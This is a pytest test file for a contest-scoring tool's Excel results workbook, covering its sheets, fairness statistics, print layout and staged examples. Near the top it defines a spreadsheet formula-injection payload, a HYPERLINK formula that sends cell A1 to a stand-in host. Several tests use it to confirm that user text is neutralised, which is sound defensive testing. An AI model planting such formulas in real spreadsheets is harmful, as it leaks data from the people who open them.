"""The results workbook: its sheets, numbers kept as numbers, user text never a formula."""

import io
import json
from pathlib import Path

import pytest
from openpyxl import load_workbook

from scoring.documents.workbook import TITLE_ROWS, results_workbook
from scoring.entries import Entries, Entry
from scoring.pipeline import score
from tests.helpers import marks, single_leaf
from tests.test_cli import POSTER, SCORES, competition, run  # noqa: F401 - a fixture

HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"klik")'


def test_user_text_is_neutralised_and_numbers_stay_numbers() -> None:
    entries = Entries((Entry("e1", HOSTILE, "A"), Entry("e2", "+62 812", "A"),
                       Entry("e3", "Kelurahan Medono", "A")))
    scores = marks(entries, {("e1", "@judge"): {"c": 80}, ("e2", "@judge"): {"c": 70},
                             ("e3", "@judge"): {"c": 60}})
    rubric = single_leaf(awards={"places": [{"name": "-Juara I-"}]})
    result = score(rubric, entries, scores)
    workbook = load_workbook(io.BytesIO(results_workbook(result, "en")))
    # the title block first, then the header (see the print-ready test)
    ranking = list(workbook["A"].iter_rows(values_only=True))[TITLE_ROWS:]
    assert ranking[0][:5] == ("Rank", "Tied", "Id", "Entry", "Total")
    assert ranking[1][3] == "'" + HOSTILE and ranking[1][4] == 80.0
    assert ranking[2][3] == "'+62 812"
    assert ranking[3][3] == "Kelurahan Medono"
    award_column = ranking[0].index("Award")
    assert ranking[1][award_column] == "'-Juara I-"
    scores_sheet = list(workbook["Judges' scores"].iter_rows(values_only=True))
    assert scores_sheet[1][2] == "'@judge" and scores_sheet[1][4] == 80.0
    # no cell anywhere holds a live formula
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row)


def test_indonesian_headers_and_rubric_sheet() -> None:
    entries = Entries((Entry("e1", "Satu", "A"),))
    result = score(single_leaf(), entries, marks(entries, {("e1", "J"): {"c": 50}}))
    workbook = load_workbook(io.BytesIO(results_workbook(result)))
    assert workbook.sheetnames == ["A", "Keyakinan peringkat", "Kepekaan", "Diagnostik juri",
                                   "Kesepakatan juri", "Nilai juri", "Catatan", "Rubrik"]
    rubric_rows = {row[0]: row[1] for row in workbook["Rubrik"].iter_rows(values_only=True)
                   if row and row[0]}
    assert rubric_rows["Sidik jari masukan"] == result.fingerprint
    assert rubric_rows["Sidik jari rubrik"] == result.rubric.fingerprint
    assert rubric_rows["Normalisasi juri"] == "tanpa normalisasi"
    without = load_workbook(io.BytesIO(results_workbook(result, fairness=False)))
    assert without.sheetnames == ["A", "Nilai juri", "Catatan", "Rubrik"]


# --- the fairness sheets ---------------------------------------------------------------------


def _rows(workbook, name: str) -> list[tuple]:
    return [row for row in workbook[name].iter_rows(values_only=True)]


def _severity_result():
    from tests.test_pipeline import FOUR_ENTRIES, STRICT_J1

    rubric = single_leaf(normalisation={"method": "severity", "min_scores": 2},
                         awards={"places": [{"name": "Juara I"}]})
    return score(rubric, FOUR_ENTRIES, marks(FOUR_ENTRIES, STRICT_J1))


def test_judge_sheet_shows_diagnostics_and_the_fitted_offsets() -> None:
    workbook = load_workbook(io.BytesIO(results_workbook(_severity_result(), "en")))
    rows = _rows(workbook, "Judge diagnostics")
    header = rows[0]
    assert header[:3] == ("Category", "Judge", "scores")
    by_judge = {row[1]: dict(zip(header, row, strict=False)) for row in rows[1:4]}
    assert set(by_judge) == {"J1", "J2", "J3"}
    # worked in tests/test_pipeline.py: the severity model's offsets are −6, +3, +3
    offsets = {j: by_judge[j]["judge offset (normalisation model)"] for j in by_judge}
    assert offsets == pytest.approx({"J1": -6, "J2": 3, "J3": 3})
    assert by_judge["J1"]["scores"] == 3 and by_judge["J3"]["scores"] == 2
    # diagnostics' own offset: J1 against the others' mean on the same entries:
    # a 70 − 79 = −9, c 54 − 63 = −9, d 58 − 67 = −9 → −9
    assert by_judge["J1"]["judge offset"] == pytest.approx(-9)
    rubric_rows = {r[0]: r[1] for r in _rows(workbook, "Rubric") if r and r[0]}
    assert rubric_rows["Judge normalisation"] == (
        "judge severity model (score = entry quality + judge offset)"
        " (at least 2 scores per judge)")


def test_sensitivity_sheet_sets_rules_side_by_side_and_marks_changed_places() -> None:
    workbook = load_workbook(io.BytesIO(results_workbook(_severity_result(), "en")))
    sheet = workbook["Sensitivity"]
    rows = _rows(workbook, "Sensitivity")
    header = rows[0]
    assert header[:5] == ("Category", "official rank", "Id", "Entry", "Award")
    assert header[5:11] == ("mean", "median", "trimmed mean", "z-score per judge",
                            "judge severity model", "leniency-and-spread model")
    by_entry = {row[2]: dict(zip(header, row, strict=False)) for row in rows[1:5]}
    # official (severity): a 1, b 2; the raw mean: b 75 first, a 74.5 second
    assert by_entry["a"]["official rank"] == 1 and by_entry["a"]["mean"] == 2
    assert by_entry["b"]["mean"] == 1 and by_entry["a"]["judge severity model"] == 1
    assert by_entry["a"]["changed"] == "yes" and by_entry["d"]["changed"] == "no"
    # the cell where a loses its place is marked; where it keeps it, not
    a_row = next(i for i, row in enumerate(rows, start=1) if row[2] == "a")
    mean_cell = sheet.cell(row=a_row, column=header.index("mean") + 1)
    severity_cell = sheet.cell(row=a_row, column=header.index("judge severity model") + 1)
    assert mean_cell.fill.fgColor.rgb.endswith("FFF2CC") and mean_cell.font.bold
    assert severity_cell.fill.fill_type is None


def test_confidence_sheet_gives_place_probabilities_interval_and_flag() -> None:
    # two entries level on 80 from one judge (as in test_pipeline's JSON test): an even
    # chance of the one place each, too close to call, margin 0
    from tests.helpers import entries_of, rubric_from
    from tests.test_ranking import TWO_CRITERIA

    two = entries_of(("e1", "A"), ("e2", "A"))
    rubric = rubric_from(TWO_CRITERIA, awards={"places": [{"name": "Juara I"}]},
                         tie_breaks=[{"criterion": "a"}])
    result = score(rubric, two, marks(two, {("e1", "J"): {"a": 90, "b": 70},
                                            ("e2", "J"): {"a": 70, "b": 90}}))
    workbook = load_workbook(io.BytesIO(results_workbook(result, "en")))
    rows = _rows(workbook, "Rank confidence")
    header = rows[0]
    first = dict(zip(header, rows[1], strict=False))
    assert first["Id"] == "e1" and first["Award"] == "Juara I"
    assert first["probability of place 1"] == 0.5 and first["probability of no place"] == 0.5
    assert first["probability of its own place"] == 0.5
    assert (first["best rank (90% interval)"], first["worst rank (90% interval)"]) == (1, 1)
    assert first["margin to the next"] == 0 and first["too close to call"] == "yes"
    # the same figures as the JSON
    data = json.loads(result.to_json())
    assert data["categories"]["A"][0]["confidence"]["p_own_place"] == 0.5
    cell = workbook["Rank confidence"].cell(row=2, column=header.index("too close to call") + 1)
    assert cell.font.bold
    # the flag reads the award probability: that figure is the one marked beside it
    sheet = workbook["Rank confidence"]
    assert sheet.cell(row=2, column=header.index("probability of any place") + 1).font.bold
    assert workbook["Rank confidence"].cell(
        row=2, column=header.index("probability of place 1") + 1).number_format == "0.0%"


def test_agreement_sheet_per_criterion_group_matches_shrout_fleiss() -> None:
    from tests.test_agreement import _two_part_result

    workbook = load_workbook(io.BytesIO(results_workbook(_two_part_result(), "en")))
    rows = _rows(workbook, "Agreement")
    header = rows[0]
    by_part = {row[1]: dict(zip(header, row, strict=False)) for row in rows[1:4]}
    assert list(by_part) == ["Total", "A", "B"]
    # part A holds the Shrout & Fleiss (1979) Table 2 scores: Table 4 gives ICC(3,1) = .71,
    # ICC(2,1) = .29, ICC(1,1) = .17
    assert by_part["A"]["ICC(3,1)"] == pytest.approx(0.71, abs=0.005)
    assert by_part["A"]["ICC(2,1)"] == pytest.approx(0.29, abs=0.005)
    assert by_part["A"]["ICC(1,1)"] == pytest.approx(0.17, abs=0.005)
    assert by_part["A"]["ICC(3,1) 95% lower"] < 0.71 < by_part["A"]["ICC(3,1) 95% upper"]
    assert by_part["B"]["Kendall's W"] == pytest.approx(1.0)


def test_user_text_in_the_fairness_sheets_is_neutralised() -> None:
    from tests.test_pipeline import STRICT_J1

    entries = Entries((Entry("a", HOSTILE, "A"), Entry("b", "=1+1", "A"),
                       Entry("c", "C", "A"), Entry("d", "D", "A")))
    scores = marks(entries, {(e, "@" + j if j == "J1" else j): v
                             for (e, j), v in STRICT_J1.items()})
    result = score(single_leaf(normalisation={"method": "severity", "min_scores": 2},
                               awards={"places": [{"name": "+Juara I"}]}), entries, scores)
    workbook = load_workbook(io.BytesIO(results_workbook(result, "en")))
    for name in ("Judge diagnostics", "Rank confidence", "Sensitivity"):
        texts = {v for row in _rows(workbook, name) for v in row if isinstance(v, str)}
        assert not any(v[0] in "=+-@" for v in texts if v), name
    assert "'@J1" in {row[1] for row in _rows(workbook, "Judge diagnostics")}
    assert "'" + HOSTILE in {row[3] for row in _rows(workbook, "Sensitivity")}
    assert "'+Juara I" in {row[5] for row in _rows(workbook, "Rank confidence")}
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row)


def test_the_same_result_exports_to_the_same_bytes() -> None:
    import zipfile

    result = _severity_result()
    first = results_workbook(result)
    # a fresh result of the same inputs: its confidence figures come from the same seed
    again = results_workbook(_severity_result())
    assert first == again
    archive = zipfile.ZipFile(io.BytesIO(first))
    assert {info.date_time for info in archive.infolist()} == {(2000, 1, 1, 0, 0, 0)}
    core = archive.read("docProps/core.xml").decode()
    assert "2000-01-01T00:00:00Z" in core
    dated = single_leaf(date="2026-11-30")
    from tests.test_pipeline import FOUR_ENTRIES, STRICT_J1

    later = results_workbook(score(dated, FOUR_ENTRIES, marks(FOUR_ENTRIES, STRICT_J1)))
    assert "2026-11-30T00:00:00Z" in zipfile.ZipFile(io.BytesIO(later)).read(
        "docProps/core.xml").decode()


# --- ready to print --------------------------------------------------------------------------


def test_the_category_sheet_prints_with_title_widths_and_numbers_as_numbers() -> None:
    from tests.helpers import entries_of

    three = entries_of(("e1", "A"), ("e2", "A"), ("e3", "A"))
    # one criterion on 0–100 (step 0.01), two judges, the mean: e1 86.78; e2 (70.12 + 70.13)
    # / 2 = 70.125, rounded half away from zero to the rubric's 2 decimals: 70.13
    rubric = single_leaf(date="2026-11-30", place="Pekalongan", awards={"places": [
        {"name": "Juara I", "amount": 10_000_000}, {"name": "Juara II", "amount": 7_500_000}]})
    result = score(rubric, three, marks(three, {
        ("e1", "J1"): {"c": 86.78}, ("e1", "J2"): {"c": 86.78},
        ("e2", "J1"): {"c": 70.12}, ("e2", "J2"): {"c": 70.13},
        ("e3", "J1"): {"c": 60}, ("e3", "J2"): {"c": 60}}))
    workbook = load_workbook(io.BytesIO(results_workbook(result)))
    sheet = workbook["A"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0].startswith("Hasil penilaian")
    assert rows[1][0] == "30 November 2026 · Pekalongan"
    header = rows[TITLE_ROWS]
    assert header[:5] == ("Peringkat", "Seri", "Id", "Peserta", "Nilai akhir")
    # headers stay on screen and on every printed page
    assert sheet.freeze_panes == f"E{TITLE_ROWS + 2}"
    assert sheet.print_title_rows == f"$1:${TITLE_ROWS + 1}"
    assert sheet.page_setup.orientation == "landscape" and sheet.page_setup.paperSize == 9  # A4
    assert sheet.page_setup.fitToWidth == 1 and sheet.page_setup.fitToHeight == 0
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert result.fingerprint in sheet.oddFooter.left.text
    # the entry column is as wide as its longest text ("Entry e1", 8 letters) + 2
    assert header.index("Peserta") == 3
    assert sheet.column_dimensions["D"].width == len("Entry e1") + 2
    # the prize is a number shown as rupiah, not a text
    amount = header.index("Hadiah (Rp)")
    first, second = rows[TITLE_ROWS + 1], rows[TITLE_ROWS + 2]
    assert first[amount] == 10_000_000 and second[amount] == 7_500_000
    assert sheet.cell(row=TITLE_ROWS + 2, column=amount + 1).number_format == '"Rp"#,##0'
    assert first[4] == 86.78 and second[4] == 70.13
    assert sheet.cell(row=TITLE_ROWS + 2, column=5).number_format == "0.00"


def test_no_cell_holds_more_than_the_rubrics_decimals() -> None:
    from tests.helpers import entries_of

    three = entries_of(("e1", "A"), ("e2", "A"), ("e3", "A"))
    # 86.78 is 86.78000000000000113… as a float; the mean of 86.77 and 86.79 is
    # 86.78000000000002 in floating point: the noise the old confidence sheet showed
    result = score(single_leaf(), three, marks(three, {
        ("e1", "J1"): {"c": 86.77}, ("e1", "J2"): {"c": 86.79},
        ("e2", "J1"): {"c": 70}, ("e2", "J2"): {"c": 71},
        ("e3", "J1"): {"c": 60}, ("e3", "J2"): {"c": 61}}))
    workbook = load_workbook(io.BytesIO(results_workbook(result, "en")))
    for name in ("A", "Rank confidence"):
        for row in workbook[name].iter_rows(values_only=True):
            for value in row:
                if isinstance(value, float):
                    assert round(value, 2) == value or (name == "Rank confidence" and (
                        round(value, 4) == value)), (name, value)
    totals = [row[4] for row in list(workbook["A"].iter_rows(values_only=True))[TITLE_ROWS + 1:]]
    assert totals == [86.78, 70.5, 60.5]
    confidence = list(workbook["Rank confidence"].iter_rows(values_only=True))
    assert confidence[1][4] == 86.78


# --- the scores sheet, optional ----------------------------------------------------------------


def test_the_scores_sheet_has_one_plain_row_per_mark_and_can_be_left_out() -> None:
    entries = Entries((Entry("e1", "Satu", "A"), Entry("e2", "Dua", "A")))
    # 2 entries × 2 judges × 1 criterion = 4 marks, one row each below the header
    scores = marks(entries, {("e1", "J1"): {"c": 50}, ("e1", "=J2"): {"c": 60.25},
                             ("e2", "J1"): {"c": 70}, ("e2", "=J2"): {"c": 80}})
    result = score(single_leaf(), entries, scores)
    full = load_workbook(io.BytesIO(results_workbook(result, "en")))
    rows = _rows(full, "Judges' scores")
    assert len(rows) == 1 + 4
    assert {(r[0], r[2], r[4]) for r in rows[1:]} == {
        ("e1", "J1", 50.0), ("e1", "'=J2", 60.25), ("e2", "J1", 70.0), ("e2", "'=J2", 80.0)}
    # plain rows: the default style, the number as a number
    cell = full["Judges' scores"]["E2"]
    assert cell.data_type == "n" and cell.number_format == "General" and not cell.font.b
    without = load_workbook(io.BytesIO(results_workbook(result, "en", scores_sheet=False)))
    assert "Judges' scores" not in without.sheetnames
    assert without.sheetnames == [s for s in full.sheetnames if s != "Judges' scores"]


def test_the_cli_leaves_the_scores_sheet_out_on_request(competition, tmp_path) -> None:  # noqa: F811
    made = competition
    sheets = [made["s0"], made["s1"], made["s2"]]
    common = ["--rubric", POSTER, "--entries", made["entries"], *sheets]
    kept, left = tmp_path / "kept.xlsx", tmp_path / "left.xlsx"
    assert run("--lang", "en", "score", *common, "--out", kept) == 0
    assert run("--lang", "en", "score", *common, "--out", left, "--scores-sheet", "no") == 0
    # 15 (entry, judge) pairs: 6 PELAJAR ones with 4 criteria, 9 UMUM ones with 3 = 51 marks
    assert sum(len(by) for by in SCORES.values()) == 6 * 4 + 9 * 3 == 51
    assert len(_rows(load_workbook(kept), "Judges' scores")) == 1 + 51
    assert "Judges' scores" not in load_workbook(left).sheetnames
    report = tmp_path / "report.xlsx"
    assert run("--lang", "en", "report", *common, "--kind", "workbook", "--out", report,
               "--scores-sheet", "no") == 0
    assert load_workbook(report).sheetnames == load_workbook(left).sheetnames


def test_judge_sheet_shows_the_spread_weight_under_leniency_spread() -> None:
    from tests.test_pipeline import FOUR_ENTRIES

    # three judges score all four entries; with min_scores 2 the panel's spread counts as
    # 2 × 2 = 4 marks, so each judge keeps 4 / (4 + 4) = 0.5 of its own slope
    given = {"J1": (80, 70, 60, 50), "J2": (85, 72, 66, 51), "J3": (78, 74, 58, 52)}
    scores = marks(FOUR_ENTRIES, {(e, j): {"c": v} for j, values in given.items()
                                  for e, v in zip("abcd", values, strict=True)})
    rubric = single_leaf(normalisation={"method": "leniency_spread", "min_scores": 2},
                         awards={"places": [{"name": "Juara I"}]})
    workbook = load_workbook(io.BytesIO(results_workbook(score(rubric, FOUR_ENTRIES, scores),
                                                         "en")))
    rows = _rows(workbook, "Judge diagnostics")
    column = rows[0].index("own spread weight (the rest pulled toward the panel)")
    assert [row[column] for row in rows[1:4]] == pytest.approx([0.5, 0.5, 0.5])
    # another method has no such column
    plain = load_workbook(io.BytesIO(results_workbook(_severity_result(), "en")))
    assert "own spread weight (the rest pulled toward the panel)" not in _rows(
        plain, "Judge diagnostics")[0]


def test_the_staged_city_example_shows_gate_reasons_and_fairness_of_the_last_stage(
        tmp_path) -> None:
    from scoring.cli import main

    root = Path(__file__).resolve().parents[2]
    data = root / "data" / "examples" / "budaya_kerja_tahapan"
    out = tmp_path / "results.xlsx"
    status = main(["--lang", "en", "score", "--rubric",
                   str(root / "rubrics" / "budaya_kerja_tahapan.yaml"),
                   "--entries", str(root / "data" / "entries_pekalongan_sample.csv"),
                   *(str(p) for p in sorted(data.glob("juri_*.csv"))),
                   "--inputs", str(data / "inputs.csv"), "--out", str(out)])
    assert status == 0
    workbook = load_workbook(out)
    rows = list(workbook["KEL"].iter_rows(values_only=True))[TITLE_ROWS:]
    header, body = rows[0], {row[2]: row for row in rows[1:]}
    column = {label: header.index(label) for label in (
        "Rank", "Total", "Judges", "Last stage", "Rank at that stage", "Reason")}
    # inputs.csv: Kelurahan Krapyak's risalah did not arrive ("tidak"), so the administrative
    # gate stops it: no rank, total or judges, and the reason names the rubric's input
    krapyak = body["kel-krapyak"]
    assert krapyak[column["Rank"]] is None and krapyak[column["Total"]] is None
    assert krapyak[column["Judges"]] is None
    assert krapyak[column["Last stage"]] == "Administrative selection"
    assert krapyak[column["Rank at that stage"]] is None
    assert krapyak[column["Reason"]] == "Did not pass: Risalah submitted on time"
    # the desk evaluation keeps the best 10 per category; an entry ranked 11th or lower there
    # has no combined total and no reason, and its rank is the 10 finalists ahead + its
    # place among those stopped there (stage rank − 10) = its stage rank
    stopped = [row for row in body.values() if row[column["Last stage"]]
               == "Desk evaluation of the risalah"]
    assert stopped and all(row[column["Rank at that stage"]] > 10 for row in stopped)
    for row in stopped:
        assert row[column["Total"]] is None and row[column["Reason"]] is None
        assert row[column["Rank"]] == 10 + (row[column["Rank at that stage"]] - 10)
    finalists = [row for row in body.values() if row[column["Last stage"]]
                 == "Presentation round"]
    assert len(finalists) == 10 and all(row[column["Reason"]] is None for row in finalists)
    # the fairness sheets hold the last stage's 10 + 10 finalists only, with a note saying so
    note = ("Computed on the last stage (Presentation round) alone: its entries, marks and "
            "judges, with that stage's ranking as the official one")
    sensitivity = _rows(workbook, "Sensitivity")
    ranked = [row for row in sensitivity[1:] if row[0] in ("OPD", "KEL")]
    assert len(ranked) == 20 and {row[2] for row in ranked} & {"kel-krapyak"} == set()
    for name in ("Rank confidence", "Sensitivity", "Judge diagnostics", "Agreement"):
        assert (note,) in [row[:1] for row in _rows(workbook, name)], name


@pytest.mark.parametrize("name", ["loncat_indah", "seluncur_indah"])
def test_the_other_staged_examples_export_their_workbook(name: str, tmp_path) -> None:
    from scoring.cli import main

    root = Path(__file__).resolve().parents[2]
    data = root / "data" / "examples" / name
    out = tmp_path / "results.xlsx"
    assert main(["--lang", "en", "score", "--rubric", str(root / "rubrics" / f"{name}.yaml"),
                 "--entries", str(data / "entries.csv"), str(data / "marks.csv"),
                 "--inputs", str(data / "inputs.csv"), "--out", str(out)]) == 0
    workbook = load_workbook(out)
    rows = list(workbook.worksheets[0].iter_rows(values_only=True))[TITLE_ROWS:]
    header, body = rows[0], {row[2]: row for row in rows[1:]}
    rank, total, reached = (header.index(label) for label in ("Rank", "Total", "Last stage"))
    if name == "loncat_indah":
        # d4 (84.45) stopped 3rd of the preliminary behind the two finalists: rank 2 + 1 = 3,
        # no final total (see tests/test_example_rubrics.py for the arithmetic)
        assert (body["d4"][rank], body["d4"][total], body["d4"][reached]) == (
            3, None, "Preliminary")
    else:
        # both skaters skate both segments: s2 22 + 36.4 = 58.4 first
        assert (body["s2"][rank], body["s2"][total], body["s2"][reached]) == (
            1, 58.4, "Free skating")


def test_fairness_sheets_are_left_out_with_a_note_when_the_last_stage_is_a_gate(
        tmp_path) -> None:
    import yaml

    from scoring import sheets
    from scoring.entries import load_entries
    from scoring.inputs import read_inputs
    from scoring.rubric import load_rubric

    root = Path(__file__).resolve().parents[2]
    data = root / "data" / "examples" / "budaya_kerja_tahapan"
    spec = yaml.safe_load((root / "rubrics" / "budaya_kerja_tahapan.yaml").read_text("utf-8"))
    gate, desk, presentation = spec["stages"]
    del desk["shortlist"]  # everyone goes on to the presentation round, then to the gate
    spec["stages"] = [desk, presentation, gate]
    path = tmp_path / "gate_last.yaml"
    path.write_text(yaml.safe_dump(spec, allow_unicode=True), encoding="utf-8")
    rubric = load_rubric(path)
    entries = load_entries(root / "data" / "entries_pekalongan_sample.csv")
    files = [(p.name, p.read_bytes()) for p in sorted(data.glob("juri_*.csv"))]
    scores, _ = sheets.read_many(files, rubric, entries)
    values, _ = read_inputs((data / "inputs.csv").read_bytes(), "inputs.csv", rubric, entries)
    result = score(rubric, entries, scores, entry_inputs=values)
    assert result.ok
    workbook = load_workbook(io.BytesIO(results_workbook(result, "en")))
    assert workbook.sheetnames == ["OPD", "KEL", "Judges' scores", "Problems", "Rubric"]
    assert ("The fairness sheets (rank confidence, sensitivity, judges, agreement) are left "
            "out: the last stage is not judged",) in [
                row[:1] for row in _rows(workbook, "Rubric")]
